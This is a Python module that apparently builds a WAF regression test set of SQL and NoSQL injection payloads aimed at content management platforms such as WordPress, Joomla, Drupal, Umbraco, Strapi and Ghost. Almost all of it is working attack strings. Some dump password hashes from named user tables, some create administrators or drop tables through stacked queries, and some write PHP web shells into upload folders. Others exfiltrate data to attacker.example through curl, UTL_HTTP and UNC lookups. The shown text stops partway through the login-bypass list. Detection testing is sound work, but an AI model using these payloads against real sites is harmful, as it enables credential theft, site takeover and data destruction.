"""Blind set "twohundredeleventh": SQL and NoSQL injection aimed at content management and publishing platforms,
with benign requests in which editors, web producers and site developers type the same words innocently.

The angle: CMSs and everything around them, recalled from memory. WordPress core (?p=, ?cat=, ?s=, ?author=),
its REST API (/wp-json/wp/v2/posts?orderby=, include[], exclude[], search=), admin-ajax.php handlers of popular
plugins ($_POST['id'] into $wpdb->get_results without prepare), Drupal (Views exposed filters and sorts, the form
API, render arrays, the 7.x expandArguments() array keys), Joomla components (list[fullordering], filter_order,
com_content id=, com_fields), TYPO3 (tx_news, be_users), Ghost (SQLite/MySQL Content API filter=), Craft
(element queries, craft_users), Umbraco, Sitecore, Kentico, DNN (SQL Server back ends), headless CMSs (Strapi and
Directus on PostgreSQL, Payload/KeystoneJS/Apostrophe on MongoDB, Sanity's GROQ, Contentful-style where filters),
wikis (MediaWiki, Confluence, DokuWiki plugins with an SQL back end), forums (phpBB, vBulletin, Discourse), page
builders, editors, media libraries and image resizers, shortcodes, comment forms, RSS/Atom feeds, XML-RPC and
import/export tools. Each payload uses the platform's own table and column names (wp_users.user_pass,
#__users/jos_users, users_field_data, be_users, phpbb_users.user_password, umbracoUser, CMS_User, admin_users,
directus_users, cwd_user) and still works against its named database; each group's comment names the family, the
platform and the target (MySQL/MariaDB, PostgreSQL, SQLite, SQL Server, Oracle, MongoDB).

Families (category sqli; one sub-family per detection title):
  libinjection-sqli, sql-tautology-boolean, sql-comment-sequence, union-select, stacked-queries,
  time-based-blind (sleep/benchmark/pg_sleep/waitfor), error-based (extractvalue/updatexml/convert/cast),
  out-of-band (load_file/into outfile/xp_dirtree/utl_http/dblink), information-schema-probing,
  mysql-comment-obfuscation, function-based-probing (substring/ascii/char/concat), sql-authentication-bypass,
  nosql-injection (Mongo operators, $where), hex-char-encoding, stored-procedure-xp-cmdshell,
  having-group-order-by-probing, like-between-in-operators

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under
arbitrary parameter names (foo, var, x, test, id, arg1), as a query string, form body, JSON body, XML body, a raw
form-typed body, or in User-Agent, Referer, a custom header or a cookie. Whole MongoDB/Payload login and filter
documents go as the JSON body; qs-style bracket operators (`email[$ne]=`, `where[slug][$regex]=`) go as raw
`name=value` pairs in a form or query string. Payloads with control characters never go into headers, cookies or
the path, and the path carries one segment only.

Authorship and independence: written for this repository from general knowledge of each attack family, of the
CMS platforms as remembered, and the detection titles alone; no WAF rule, engine source, ruleset regression test
or public payload list was read. Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet
from .records import print_records

NAME = "twohundredeleventh"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
JB = ("json-body", "rs-json-body")
KV = ("form", "rs-raw-body")
KQ = ("query", "rs-query")

# ----------------------------------------------------------------------------------------------------------------
# libinjection-sqli: short token streams that leave a quoted or numeric context and turn the query around
LIBINJECTION: list[Entry] = [
    # libinjection-sqli, WordPress core ?p= / ?page_id= reaching a theme's unprepared $wpdb->get_row (MySQL)
    "1 or 1=1",
    "1) or (1=1",
    "-1 or post_status='publish'",
    "0 or post_type='revision'",
    # libinjection-sqli, WordPress ?s= search handed by a related-posts plugin into LIKE '%...%' (MySQL)
    "%' or '1'='1",
    "x%' or 1=1-- -",
    "%' and 0 or '%'='",
    # libinjection-sqli, WordPress admin-ajax.php?action=... plugin handler, $_POST['id'] quoted by hand (MySQL)
    "1' or '1'='1",
    "7' or 1#",
    "3' || '1",
    # libinjection-sqli, Joomla com_content &id= / &catid= in a third-party component without (int) cast (MySQL)
    "1 or 2>1",
    "5 || 1",
    "-9 or a.state=1",
    # libinjection-sqli, Drupal 7 Views contextual filter argument passed into a raw db_query() (MySQL)
    "1' or nid>0 or '",
    "page' or type<>'",
    # libinjection-sqli, TYPO3 tx_news[news]= in an extension building its own QueryBuilder string (MySQL)
    "1 or deleted=0",
    "12 or hidden=0",
    # libinjection-sqli, phpBB 3 viewtopic.php?t= in a MOD that skips request_var() casting (MySQL)
    "1 or topic_id>0",
    "2 or forum_id like 1",
    # libinjection-sqli, vBulletin 4 forumrunner/request.php postids list (MySQL)
    "1) or 1=1#",
    "0) or (postid>0",
    # libinjection-sqli, Ghost Content API filter on SQLite, a custom integration concatenating the slug
    "welcome' or 1=1--",
    "x\" or \"1\"=\"1",
    # libinjection-sqli, Umbraco surface controller, Examine fallback to raw SQL on SQL Server
    "1 or 1=1--",
    "';--",
    # libinjection-sqli, Strapi v3 custom controller with knex.raw() on PostgreSQL
    "1 or true",
    "' or ''='",
    # libinjection-sqli, MediaWiki extension building a page_title condition by hand (MySQL)
    "Main_Page' or page_namespace=0 or '",
]

# sql-tautology/boolean: always-true or probe-true conditions against each platform's user table
TAUTOLOGY: list[Entry] = [
    # sql-tautology/boolean, WordPress plugin shortcode attribute [ebook id="..."] into $wpdb->query (MySQL)
    "1 and 1=1",
    "1 and 1=2",
    "1 and (select count(*) from wp_users)>0",
    "1 and (select substr(user_pass,1,3) from wp_users where ID=1)='$P$'",
    "1 and (select user_login from wp_users where ID=1)='admin'",
    "2 and exists(select 1 from wp_usermeta where meta_key='wp_capabilities')",
    # sql-tautology/boolean, WordPress REST API /wp-json/<plugin>/v1/items?id= on MariaDB
    "4 and true",
    "4 and not true",
    "4 and 1 is not null",
    # sql-tautology/boolean, Joomla component &id= probing #__users (prefix guessed as jos_) (MySQL)
    "1 and (select count(*) from jos_users where block=0)>0",
    "1 and (select substring(password,1,4) from jos_users limit 1)='$2y$'",
    # sql-tautology/boolean, Drupal 7 users table, hashes start $S$ (MySQL)
    "1 and (select substr(pass,1,3) from users where uid=1)='$S$'",
    "1' and (select name from users where uid=1)='admin' and '1'='1",
    # sql-tautology/boolean, TYPO3 be_users admin flag (MySQL)
    "1 and (select admin from be_users where uid=1)=1",
    # sql-tautology/boolean, phpBB user_type 3 is a founder (MySQL)
    "1 and (select user_type from phpbb_users where user_id=2)=3",
    # sql-tautology/boolean, Discourse / Strapi / Directus on PostgreSQL
    "1 and (select count(*) from users where admin=true)>0",
    "1 and (select count(*) from admin_users)>0",
    "1 and (select email from directus_users limit 1) is not null",
    "' or 1::boolean--",
    # sql-tautology/boolean, Umbraco / Kentico / DNN on SQL Server
    "1 and (select count(*) from umbracoUser)>0--",
    "1 and (select top 1 UserIsGlobalAdministrator from CMS_User)=1--",
    "1 and (select count(*) from Users where IsSuperUser=1)>0--",
    "' or 'a'='a",
    # sql-tautology/boolean, Ghost on SQLite
    "1 and (select count(*) from users where status='active')>0--",
    # sql-tautology/boolean, Confluence on PostgreSQL, crowd directory users
    "1 and (select count(*) from cwd_user where active='T')>0--",
    # sql-tautology/boolean, Craft CMS admin flag (MySQL)
    "1 and (select admin from craft_users limit 1)=1",
    "' or 3>2 or '",
    "1 xor 0",
]

# sql-comment-sequence: comments that cut off the rest of the CMS's query (ORDER BY, LIMIT, status checks)
COMMENT: list[Entry] = [
    # sql-comment-sequence, WordPress ?author= / ?cat= in a theme query that appends "AND post_status='publish'"
    "1-- -",
    "1#",
    "1/*",
    "1;-- ",
    "1' -- -",
    "1'#",
    "1')-- -",
    # sql-comment-sequence, WordPress XML-RPC pingback.ping / wp.getPost argument in a plugin filter (MySQL)
    "5 or 1=1-- -",
    "5' or 1=1#",
    # sql-comment-sequence, Joomla filter_search in a list model (MySQL), the rest is LIMIT 0,20
    "x' or 1=1 limit 1#",
    "x') or 1=1-- -",
    # sql-comment-sequence, Drupal Views exposed filter with a custom handler (PostgreSQL)
    "article' or 1=1--",
    "article'--",
    # sql-comment-sequence, phpBB search.php author= in a MOD (MySQL), comment splitting across fields
    "admin'/*",
    "*/ or 1=1#",
    # sql-comment-sequence, vBulletin 5 routestring to a legacy node query (MySQL)
    "1)#",
    "1) or 1=1-- -",
    # sql-comment-sequence, Kentico / Sitecore / DNN / Umbraco on SQL Server
    "1;--",
    "1'--",
    "admin'--",
    "1 or 1=1;--",
    # sql-comment-sequence, Oracle back end of a Sitecore-era portal
    "1' or 1=1--",
    # sql-comment-sequence, Ghost on SQLite, both comment styles
    "x' or 1=1/*",
    "post')--",
    # sql-comment-sequence, MySQL backtick-quoted column from a page builder's sortable grid
    "title` or 1=1#",
    "1 or 1=1 #x",
    # sql-comment-sequence, TYPO3 extension search word (MySQL), nested /* */ left open
    "news' or 1=1 /*",
    "1 -- ",
]

# union-select: appending rows with the platform's credentials to the CMS's own result set
UNION: list[Entry] = [
    # union-select, WordPress plugin ?id= on a 4-column query, MySQL: logins and phpass hashes from wp_users
    "-1 union select 1,user_login,user_pass,4 from wp_users-- -",
    "-1 union select 1,group_concat(user_login,0x3a,user_pass),3,4 from wp_users-- -",
    "0 union all select null,user_email,user_activation_key,null from wp_users#",
    "-1' union select 1,option_value,3,4 from wp_options where option_name='siteurl'-- -",
    "-1 union select 1,meta_value,3,4 from wp_usermeta where meta_key='session_tokens'-- -",
    # union-select, WordPress REST API plugin endpoint on MariaDB, two columns, string context
    "x' union select user_login,user_pass from wp_users where ID=1#",
    # union-select, Joomla component (jos_/#__ prefix), MySQL
    "-1 union select 1,concat(username,0x3a,password),3 from jos_users-- -",
    "-1 union select 1,2,concat_ws(0x3a,username,email,password),4,5 from jos_users#",
    "-1 union select 1,session_id,username from jos_session where client_id=1-- -",
    # union-select, Drupal 7 / 8+ user tables (MySQL)
    "-1 union select name,pass from users where uid=1-- -",
    "-1 union select name,pass from users_field_data where uid=1-- -",
    # union-select, TYPO3 backend users (MySQL)
    "-1 union select username,password,3 from be_users where admin=1#",
    # union-select, phpBB and vBulletin (MySQL)
    "-1 union select username,user_password,user_email from phpbb_users where user_type=3-- -",
    "-1) union select username,password,salt from user where usergroupid=6#",
    "-1 union select 1,config_value from phpbb_config where config_name='rand_seed'#",
    # union-select, MediaWiki (MySQL), user table
    "x' union select user_name,user_password from user-- -",
    # union-select, Craft CMS (MySQL)
    "-1 union select username,password,email from craft_users where admin=1-- -",
    # union-select, Ghost on SQLite
    "-1 union select email,password from users--",
    "x' union select group_concat(email||':'||password),2 from users--",
    # union-select, Strapi / Directus / Discourse on PostgreSQL
    "-1 union select email,password from admin_users--",
    "-1 union select email,password from directus_users--",
    "-1 union select username,null from users where admin--",
    "-1 union all select key_hash,null from api_keys--",
    # union-select, Umbraco / Kentico / Sitecore / DNN on SQL Server
    "-1 union select userLogin,userPassword from umbracoUser--",
    "-1 union select UserName,UserPassword from CMS_User--",
    "-1 union select Password,PasswordSalt from aspnet_Membership--",
    "-1 union select Username,Email from Users where IsSuperUser=1--",
    # union-select, Confluence on PostgreSQL (Atlassian Crowd tables)
    "-1 union select user_name,credential from cwd_user--",
    # union-select, Oracle back end of a legacy portal CMS
    "-1 union select username,password from sys.user$--",
]

# stacked-queries: a second statement after ';' where the driver runs several (PDO emulated prepares, mssql,
# pg simple query protocol, mysqli_multi_query)
STACKED: list[Entry] = [
    # stacked-queries, WordPress plugin running mysqli_multi_query on its export tool (MySQL): new administrator
    "1; insert into wp_users (user_login,user_pass) values ('wpsupport',md5('hunter2'))-- -",
    "1; update wp_users set user_pass=md5('hunter2') where ID=1-- -",
    "1; update wp_options set option_value='1' where option_name='users_can_register'-- -",
    "1; update wp_options set option_value='administrator' where option_name='default_role'#",
    "1'; delete from wp_posts where post_type='post'-- -",
    # stacked-queries, Joomla component on PDO MySQL: promote a user, then drop the session table
    "1; insert into jos_user_usergroup_map (user_id,group_id) values (42,8)-- -",
    "1; truncate table jos_session-- -",
    # stacked-queries, Drupal on PostgreSQL: grant the administrator role, enable PHP filter module
    "1; insert into users_roles (uid,rid) values (5,3)--",
    "1; update system set status=1 where name='php'--",
    "'; drop table cache_page;--",
    # stacked-queries, TYPO3 (MySQL): make a backend user an admin
    "1; update be_users set admin=1 where username='editor'-- -",
    # stacked-queries, Strapi / Directus / Discourse on PostgreSQL
    "1; update admin_users set password='$2a$10$abcdefghijklmnopqrstuu' where id=1--",
    "1; update directus_users set role=(select id from directus_roles where admin_access) where id=2--",
    "1; update users set admin=true where username='mallory'--",
    "'; select pg_terminate_backend(pid) from pg_stat_activity--",
    # stacked-queries, Umbraco / Kentico / Sitecore / DNN on SQL Server
    "1; update umbracoUser set userDisabled=0, userNoConsole=0 where id=0--",
    "1; update CMS_User set UserPrivilegeLevel=3 where UserName='editor'--",
    "1; update Users set IsSuperUser=1 where Username='editor'--",
    "'; insert into aspnet_UsersInRoles select UserId,(select RoleId from aspnet_Roles where RoleName='sitecore"
    "\\Developer') from aspnet_Users where UserName='sitecore\\mallory'--",
    "1; drop table umbracoLog--",
    "1; shutdown with nowait--",
    # stacked-queries, phpBB (MySQL): founder flag
    "2; update phpbb_users set user_type=3 where username='mallory'-- -",
    # stacked-queries, vBulletin (MySQL): the admin usergroup is 6
    "1; update user set usergroupid=6 where username='mallory'#",
    # stacked-queries, Ghost on SQLite: the owner role id moves to our user
    "1; update roles_users set role_id=(select id from roles where name='Owner')--",
    # stacked-queries, Craft CMS (MySQL)
    "1; update craft_users set admin=1 where username='mallory'-- -",
    # stacked-queries, MediaWiki (MySQL): sysop group
    "1; insert into user_groups (ug_user,ug_group) values (7,'sysop')-- -",
    # stacked-queries, Confluence (PostgreSQL)
    "1; insert into cwd_membership (id,parent_id,child_user_id) values (999,1,2)--",
]

# time-based-blind: the response is slow when the guess about the platform's data is right
TIME: list[Entry] = [
    # time-based-blind, WordPress admin-ajax.php plugin handler (MySQL SLEEP)
    "1 and sleep(5)",
    "1' and sleep(5)-- -",
    "1 and (select 1 from (select sleep(5))x)",
    "1 and if((select substr(user_pass,1,1) from wp_users where ID=1)='$',sleep(5),0)",
    "(select*from(select(sleep(5)))a)",
    "1' or sleep(5)#",
    "if(now()=sysdate(),sleep(5),0)",
    # time-based-blind, WordPress REST API ?orderby= in a plugin collection (MySQL BENCHMARK)
    "1 and benchmark(5000000,md5(1))",
    "1' and (select benchmark(8000000,sha1('wp')))-- -",
    "if(ascii(mid(database(),1,1))>100,benchmark(5000000,md5(1)),0)",
    # time-based-blind, Joomla component id (MySQL)
    "1 and (select if(count(*)>0,sleep(5),0) from jos_users where username='admin')",
    "1' and sleep(5) and '1'='1",
    # time-based-blind, Drupal / Strapi / Directus / Discourse on PostgreSQL (pg_sleep)
    "1; select pg_sleep(5)--",
    "1 and 1=(select 1 from pg_sleep(5))",
    "1' || pg_sleep(5)--",
    "1 and (select case when (select count(*) from admin_users)>0 then pg_sleep(5) else pg_sleep(0) end) "
    "is null--",
    "';select case when substr(current_user,1,1)='p' then pg_sleep(5) end--",
    # time-based-blind, Umbraco / Kentico / Sitecore / DNN on SQL Server (WAITFOR)
    "1; waitfor delay '0:0:5'--",
    "1'; waitfor delay '00:00:05'--",
    "1; if (select count(*) from umbracoUser)>0 waitfor delay '0:0:5'--",
    "1; if(substring(db_name(),1,1)='S') waitfor delay '0:0:5'--",
    "'; if system_user='sa' waitfor delay '0:0:5'--",
    # time-based-blind, Ghost on SQLite: heavy randomblob instead of a sleep function
    "1 and 1=like('ABCDEFG',upper(hex(randomblob(300000000/2))))",
    # time-based-blind, Oracle portal (DBMS_PIPE)
    "1 and 1=dbms_pipe.receive_message(('a'),5)",
    "' || dbms_pipe.receive_message(chr(97),5)--",
    # time-based-blind, MariaDB phpBB MOD, sleep inside ORDER BY
    "1 order by sleep(5)",
    "(case when 1=1 then sleep(5) else 1 end)",
    "1 or sleep(5)=0",
]

# error-based: the platform's debug output (WP_DEBUG, Joomla debug, Drupal error display, ASP.NET yellow screen)
# shows the database error, and the error carries the data
ERROR: list[Entry] = [
    # error-based, WordPress with WP_DEBUG_DISPLAY on, plugin ?id= (MySQL EXTRACTVALUE / UPDATEXML)
    "1 and extractvalue(1,concat(0x7e,(select user_login from wp_users limit 1)))",
    "1 and extractvalue(1,concat(0x7e,(select substr(user_pass,1,30) from wp_users where ID=1)))",
    "1 and updatexml(1,concat(0x7e,version(),0x7e),1)",
    "1' and updatexml(null,concat(0x0a,(select option_value from wp_options where option_name='admin_email')),"
    "null)-- -",
    "1 or extractvalue(rand(),concat(0x3a,database()))",
    # error-based, Joomla 3.7 com_fields list[fullordering] style (MySQL UPDATEXML)
    "updatexml(0x23,concat(1,user()),1)",
    "updatexml(1,concat(0x3a,(select username from jos_users limit 0,1)),1)",
    # error-based, Joomla component, duplicate-key error from GROUP BY floor(rand(0)*2) (MySQL)
    "1 and (select 1 from (select count(*),concat((select password from jos_users limit 1),floor(rand(0)*2))x"
    " from information_schema.tables group by x)a)",
    # error-based, Drupal / phpBB on MySQL 5.5+, BIGINT overflow and geometry errors
    "1 and exp(~(select*from(select user())a))",
    "1 and polygon((select*from(select*from(select name from users limit 1)a)b))",
    "1 and gtid_subset(concat(0x7e,(select user_password from phpbb_users limit 1)),1)",
    "1 and json_keys((select convert((select @@version) using utf8)))",
    # error-based, Umbraco / Kentico / Sitecore / DNN on SQL Server (CONVERT / CAST)
    "1 and 1=convert(int,(select top 1 userLogin from umbracoUser))--",
    "1 and 1=convert(int,@@version)--",
    "1 and 1=cast((select top 1 UserName from CMS_User) as int)--",
    "' and 1=convert(int,(select top 1 Password+':'+PasswordSalt from aspnet_Membership))--",
    "1 and 1=convert(int,db_name())--",
    "1 and 1=cast(system_user as int)--",
    # error-based, Strapi / Directus / Discourse on PostgreSQL (CAST)
    "1 and 1=cast((select email from admin_users limit 1) as int)--",
    "1 and 1=cast(version() as int)--",
    "1 and cast((select password from directus_users limit 1) as numeric)=1--",
    "' and 1=(select email::int from users limit 1)--",
    "1 and 1=cast(current_database() as integer)",
    # error-based, Oracle portal (CTXSYS, XMLType)
    "1 and 1=ctxsys.drithsx.sn(1,(select user from dual))",
    "1 and 1=utl_inaddr.get_host_name((select banner from v$version where rownum=1))",
    # error-based, Oracle portal, XMLType parse error echoing the current user
    "1 and 1=(select upper(xmltype(chr(60)||chr(58)||(select user from dual)||chr(62))) from dual)",
    # error-based, TYPO3 (MySQL), be_users
    "1 and extractvalue(0,concat(0x5c,(select concat(username,0x3a,password) from be_users limit 1)))",
    # error-based, MediaWiki extension (MySQL)
    "1 and updatexml(1,concat(0x7e,(select user_name from user limit 1)),1)",
]

# out-of-band: reading the platform's config files, writing a web shell into its upload folder, or sending data
# to an attacker host by DNS/HTTP
OOB: list[Entry] = [
    # out-of-band, WordPress with FILE privilege (MySQL LOAD_FILE): wp-config.php holds the DB password and salts
    "-1 union select 1,load_file('/var/www/html/wp-config.php'),3,4-- -",
    "-1 union select 1,load_file(0x2f7661722f7777772f68746d6c2f77702d636f6e6669672e706870),3,4#",
    "1 and load_file('/etc/passwd') is not null",
    # out-of-band, WordPress (MySQL INTO OUTFILE): a shell into wp-content/uploads
    "-1 union select 1,'<?php system($_GET[c]);?>',3,4 into outfile '/var/www/html/wp-content/uploads/x.php'-- -",
    "1 into outfile '/var/www/html/wp-content/uploads/2024/06/dump.txt'",
    "-1 union select user_login,user_pass from wp_users into dumpfile '/tmp/wp_users.txt'#",
    # out-of-band, Joomla (MySQL): configuration.php, shell into images/
    "-1 union select 1,load_file('/var/www/joomla/configuration.php'),3#",
    "-1 union select '<?php eval($_POST[1]);?>',2,3 into outfile '/var/www/joomla/images/s.php'#",
    # out-of-band, Drupal (MySQL): settings.php, DNS exfiltration via UNC path on Windows hosts
    "-1 union select 1,load_file('/var/www/drupal/sites/default/settings.php')-- -",
    "1 and load_file(concat('\\\\\\\\',(select pass from users where uid=1),'.x.attacker.example\\\\a'))",
    # out-of-band, Umbraco / Kentico / Sitecore / DNN on SQL Server (xp_dirtree / xp_fileexist UNC lookups)
    "1; exec master..xp_dirtree '\\\\x.attacker.example\\a'--",
    "1; declare @q varchar(99); set @q='\\\\'+(select top 1 userLogin from umbracoUser)+'.attacker.example\\a';"
    " exec master..xp_dirtree @q--",
    "1; exec master..xp_fileexist '\\\\kentico.attacker.example\\share\\f'--",
    "1; exec master..xp_subdirs '\\\\dnn.attacker.example\\c$'--",
    "1 union select 1,(select * from openrowset(bulk 'C:\\inetpub\\wwwroot\\web.config',single_clob) x)--",
    # out-of-band, Strapi / Directus / Discourse on PostgreSQL (dblink, COPY, lo_import, pg_read_file)
    "1; create extension if not exists dblink; select dblink_connect('host=attacker.example user='||"
    "(select email from admin_users limit 1))--",
    "1; copy (select email||':'||password from directus_users) to program 'curl -d @- http://attacker.example'--",
    "1 union select pg_read_file('/srv/strapi/.env'),null--",
    "1; select lo_import('/etc/passwd')--",
    "1; copy users to '/var/www/discourse/public/uploads/u.csv'--",
    # out-of-band, Oracle portal (UTL_HTTP, HTTPURITYPE, DBMS_LDAP)
    "1 and utl_http.request('http://attacker.example/'||(select user from dual)) is not null",
    "1 and httpuritype('http://attacker.example/'||(select password from sys.user$ where rownum=1))"
    ".getclob() is not null",
    "1 and dbms_ldap.init((select user from dual)||'.attacker.example',389) is not null",
    # out-of-band, DokuWiki sqlite plugin (PHP PDO, SQLite): ATTACH writes a new database file into the web root
    "1; attach database '/var/www/dokuwiki/lib/x.php' as x; create table x.t (c text); insert into x.t "
    "values ('<?php system($_GET[c]);?>')--",
    # out-of-band, MediaWiki / phpBB (MySQL): LocalSettings.php and config.php
    "-1 union select load_file('/var/www/mediawiki/LocalSettings.php'),2-- -",
    "-1 union select 1,load_file('/var/www/phpbb/config.php'),3-- -",
    # out-of-band, Craft CMS (MySQL): the .env with the security key
    "-1 union select load_file('/var/www/craft/.env'),2,3#",
]

# information-schema/catalog probing: finding the table prefix, the user table and its columns
CATALOG: list[Entry] = [
    # information-schema, WordPress with a custom $table_prefix (MySQL): find the *_users table
    "-1 union select 1,table_name,3,4 from information_schema.tables where table_name like '%users'-- -",
    "-1 union select 1,group_concat(table_name),3,4 from information_schema.tables where table_schema=database()#",
    "-1 union select 1,group_concat(column_name),3,4 from information_schema.columns where table_name='wp_users'#",
    "1 and (select count(*) from information_schema.tables where table_name like '%\\_options')>0",
    "-1 union select 1,schema_name,3,4 from information_schema.schemata-- -",
    # information-schema, Joomla random prefix (MySQL): the #__ prefix is five random letters
    "-1 union select 1,table_name,3 from information_schema.tables where table_name like '%\\_users' limit 1#",
    "1 and (select substr(table_name,1,6) from information_schema.tables where table_name like '%session' "
    "limit 1)='jos_se'",
    # information-schema, MySQL 5.6+ without information_schema access: innodb stats and sys schema
    "-1 union select 1,group_concat(table_name),3 from mysql.innodb_table_stats#",
    "-1 union select 1,group_concat(table_name),3 from sys.schema_table_statistics_with_buffer-- -",
    "-1 union select 1,group_concat(object_name),3 from performance_schema.objects_summary_global_by_type#",
    # information-schema, Drupal (MySQL / PostgreSQL)
    "-1 union select table_name,null from information_schema.tables where table_name like 'users%'--",
    "-1 union select column_name,data_type from information_schema.columns where table_name='users_field_data'--",
    # information-schema, Strapi / Directus / Discourse / Confluence on PostgreSQL
    "-1 union select tablename,null from pg_tables where schemaname='public'--",
    "-1 union select string_agg(relname,','),null from pg_class where relkind='r'--",
    "-1 union select usename,passwd from pg_shadow--",
    "-1 union select datname,null from pg_database--",
    "1 and (select count(*) from pg_catalog.pg_tables where tablename='directus_users')=1--",
    # information-schema, Umbraco / Kentico / Sitecore / DNN on SQL Server
    "-1 union select name,null from sysobjects where xtype='U'--",
    "-1 union select table_name,null from information_schema.tables where table_name like 'CMS_%'--",
    "-1 union select name,null from sys.tables where name like 'umbraco%'--",
    "-1 union select name,null from master..sysdatabases--",
    "-1 union select c.name,t.name from sys.columns c join sys.tables t on c.object_id=t.object_id "
    "where t.name='aspnet_Membership'--",
    # information-schema, Ghost on SQLite
    "-1 union select name,sql from sqlite_master where type='table'--",
    "-1 union select group_concat(tbl_name),2 from sqlite_master--",
    # information-schema, Oracle portal
    "-1 union select table_name,null from all_tables where owner=user--",
    "-1 union select column_name,null from all_tab_columns where table_name='PORTAL_USERS'--",
    # information-schema, phpBB / vBulletin (MySQL)
    "1 and (select count(*) from information_schema.columns where column_name='user_password')>0",
    "-1 union select 1,column_name from information_schema.columns where table_name='user' and "
    "table_schema=database()#",
]

# mysql-comment-obfuscation: MySQL inline and versioned comments splitting keywords past a CMS security plugin
MYCOMMENT: list[Entry] = [
    # mysql-comment-obfuscation, WordPress behind a security plugin's keyword filter (MySQL executable comments)
    "-1 /*!50000union*/ /*!50000select*/ 1,user_login,user_pass,4 from wp_users-- -",
    "-1 /*!union*/ /*!select*/ 1,2,3,4#",
    "-1 /*!12345union*/ /*!12345select*/ 1,group_concat(user_pass),3,4 from wp_users#",
    "-1/**/union/**/select/**/1,user_pass,3,4/**/from/**/wp_users#",
    "1/*!and*/sleep(5)",
    "1 /*!or*/ 1=1-- -",
    "1'/**/or/**/'1'='1",
    # mysql-comment-obfuscation, Joomla (MySQL)
    "-1 uni/**/on sel/**/ect 1,concat(username,0x3a,password),3 from jos_users#",
    "-1 /*!50000UnIoN*/ /*!50000SeLeCt*/ 1,password,3 /*!50000FrOm*/ jos_users#",
    "1/*!50000and*/extractvalue(1,concat(0x7e,user()))",
    # mysql-comment-obfuscation, Drupal (MySQL), versioned comment holding a whole condition
    "1 /*!40000 and (select count(*) from users)>0*/",
    "-1 union/*wp*/select/*x*/name,pass/*y*/from/*z*/users-- -",
    "-1 /*!00000union*/ select name,pass from users#",
    # mysql-comment-obfuscation, phpBB / vBulletin (MySQL): comment in place of every space, newline comments
    "-1/*foo*/union/*bar*/all/*baz*/select/**/username,user_password/**/from/**/phpbb_users#",
    "1#\nand#\nsleep(5)",
    "-1 union#\nselect username,password,salt from user#",
    "-1 union-- x\nselect 1,2,3-- -",
    # mysql-comment-obfuscation, TYPO3 / Craft (MySQL)
    "-1 /*!50000union all select*/ username,password,3 from be_users#",
    "-1 /*!50001union*/ /*!50001select*/ username,password,email from craft_users#",
    "1/**/and/**/(select/**/1/**/from/**/be_users/**/where/**/admin=1)=1",
    # mysql-comment-obfuscation, MediaWiki / Ghost on MySQL
    "-1/*!union*//*!select*/user_name,user_password/*!from*/user#",
    "1'/*!and*/'1'='1",
    "1 and/*!*/1=1",
    "-1 /*!40101union*/ /*!40101select*/ email,password from users#",
    # mysql-comment-obfuscation, MariaDB executable comments (/*M! */)
    "-1 /*M!union*/ /*M!select*/ 1,user_pass,3,4 from wp_users#",
    "1 /*M!100000 and sleep(5)*/",
    "1 /*!and*/ /*!benchmark*/(5000000,md5(1))",
    "-1 union/*!*/select 1,2,3,4",
]

# function-based probing: substring/ascii/char/concat reading the platform's secrets one character at a time
FUNCTION: list[Entry] = [
    # function-based-probing, WordPress plugin ?id= (MySQL): phpass hash of user 1, byte by byte
    "1 and ascii(substring((select user_pass from wp_users where ID=1),4,1))>64",
    "1 and ord(mid((select user_login from wp_users limit 0,1),1,1))=97",
    "1 and substr((select option_value from wp_options where option_name='auth_key'),1,1)='a'",
    "1 and length((select user_pass from wp_users where ID=1))=34",
    "1 and left((select user_email from wp_users where ID=1),5)='admin'",
    "-1 union select 1,concat(user_login,char(58),user_pass),3,4 from wp_users-- -",
    "1 and strcmp(substr(database(),1,1),'w')=0",
    # function-based-probing, Joomla (MySQL)
    "1 and ascii(substr((select password from jos_users limit 1),1,1))=36",
    "-1 union select 1,concat_ws(char(32),username,email,password),3 from jos_users#",
    "1 and locate('$2y$',(select password from jos_users limit 1))=1",
    # function-based-probing, Drupal (MySQL / PostgreSQL)
    "1 and ascii(substring((select pass from users where uid=1) from 1 for 1))=36",
    "1 and right((select name from users_field_data where uid=1),2)='in'",
    # function-based-probing, phpBB / vBulletin (MySQL)
    "1 and mid((select user_password from phpbb_users where user_id=2),1,4)='$2y$'",
    "1 and hex(substr((select salt from user where userid=1),1,1))='41'",
    "1 and instr((select password from user where userid=1),'a')>0",
    # function-based-probing, Strapi / Directus / Discourse on PostgreSQL
    "1 and ascii(substr((select email from admin_users limit 1),1,1))>96--",
    "1 and chr(97)||chr(100)=(select substr(username,1,2) from users where id=1)--",
    "1 and (select position('@' in email) from directus_users limit 1)>3--",
    "1 and md5((select password from admin_users limit 1)) like '0%'--",
    # function-based-probing, Umbraco / Kentico / Sitecore / DNN on SQL Server
    "1 and unicode(substring((select top 1 userLogin from umbracoUser),1,1))=97--",
    "1 and ascii(substring((select top 1 UserPassword from CMS_User),1,1))>50--",
    "1 and char(65)+char(68)=(select top 1 left(Username,2) from Users)--",
    "1 and len((select top 1 Password from aspnet_Membership))=24--",
    "1 and charindex('sitecore',(select top 1 UserName from aspnet_Users))=1--",
    # function-based-probing, Ghost on SQLite
    "1 and unicode(substr((select password from users limit 1),1,1))=36--",
    "1 and substr((select email from users limit 1),1,1)=char(97)--",
    # function-based-probing, Oracle portal
    "1 and ascii(substr((select user from dual),1,1))>64",
    "1 and (select instr(banner,'Oracle') from v$version where rownum=1)=1",
    "1 and (select lpad(user,1) from dual)='P'",
]

# sql-authentication-bypass: login forms of the CMS admin, member area and forum
AUTH: list[Entry] = [
    # sql-authentication-bypass, WordPress custom login plugin checking log/pwd with its own query (MySQL)
    "admin' -- -",
    "admin'#",
    "' or user_login='admin'#",
    "admin' or '1'='1'-- -",
    "' or ID=1-- -",
    # WordPress: a UNION row with user_pass as plain MD5 ('password'); wp_check_password accepts 32-char MD5
    "x' union select 1,'admin','5f4dcc3b5aa765d61d8327deb882cf99','admin','a@example.org','','2024-01-01',''"
    ",0,'admin'-- -",
    # sql-authentication-bypass, Joomla member login module of a third-party extension (MySQL)
    "admin'-- -",
    "' or username like 'adm%'#",
    "') or ('a'='a",
    "admin' or 1=1 limit 1-- -",
